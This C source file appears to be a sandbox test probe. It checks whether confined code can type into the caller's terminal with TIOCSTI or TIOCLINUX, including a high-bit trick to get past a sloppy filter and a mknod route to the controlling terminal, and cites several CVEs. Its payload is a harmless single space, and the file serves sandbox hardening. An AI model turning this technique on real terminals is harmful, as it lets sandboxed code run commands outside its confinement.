/* SPDX-License-Identifier: MIT
 *
 * Type into the terminal, so that the shell that started the sandbox reads
 * it as the user's next command.
 *
 * TIOCSTI puts a character into the terminal's input. A sandbox that shares
 * its caller's terminal can so make the caller run anything, outside. On a
 * text console TIOCLINUX does the same, by selecting on the screen and
 * pasting. With the argument "high" the upper 32 bits of the request are set,
 * which the kernel ignores and a careless filter compares. Harmless here: it
 * types a single space, and asks the console whether Shift is held down.
 * Step 4 stops it, by the filter.
 * CVE-2017-5226, CVE-2019-10063, CVE-2023-28100.
 */
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "attack.h"

enum { GET_SHIFT_STATE = 6 }; /* TIOCL_GETSHIFTSTATE, linux/tiocl.h */

/* The terminal of the session, whatever standard input is. ENXIO: there is
 * none, since somebody began a new session. */
static void take_controlling_terminal(void)
{
    int fd = open("/dev/tty", O_RDWR);

    if (fd < 0 && errno == ENOENT &&
        mknod("/tmp/.tty", S_IFCHR | 0600, makedev(5, 0)) == 0) {
        fd = open("/tmp/.tty", O_RDWR);
        int error = errno;
        unlink("/tmp/.tty");
        errno = error;
    }
    if (fd < 0 && errno == ENXIO) {
        printf("/dev/tty: the caller's terminal is out of reach\n");
        exit(1);
    }
    if (fd < 0 || dup2(fd, STDIN_FILENO) < 0)
        stopped("/dev/tty");
}

int main(int argc, char **argv)
{
    unsigned long high = 0;
    int paste = 0;

    for (int i = 1; i < argc; i++)
        if (strcmp(argv[i], "paste") == 0)
            paste = 1;
        else if (strcmp(argv[i], "high") == 0 && sizeof(high) == 4)
            does_not_apply("there are no upper 32 bits on this machine");
        else if (strcmp(argv[i], "high") == 0)
            high = 1UL << 31 << 1;
        else if (strcmp(argv[i], "controlling") == 0)
            take_controlling_terminal();
    if (!isatty(STDIN_FILENO))
        does_not_apply("standard input is no terminal");
    if (paste) {
        char request[2] = {GET_SHIFT_STATE, 0};
        /* ENOTTY: the terminal was asked, and it is no text console. */
        judge(syscall(SYS_ioctl, STDIN_FILENO, TIOCLINUX | high, request),
              "ioctl(TIOCLINUX)");
    }
    if (syscall(SYS_ioctl, STDIN_FILENO, TIOCSTI | high, " ") < 0)
        stopped("ioctl(TIOCSTI)");
    learned("typed a character into the terminal");
}
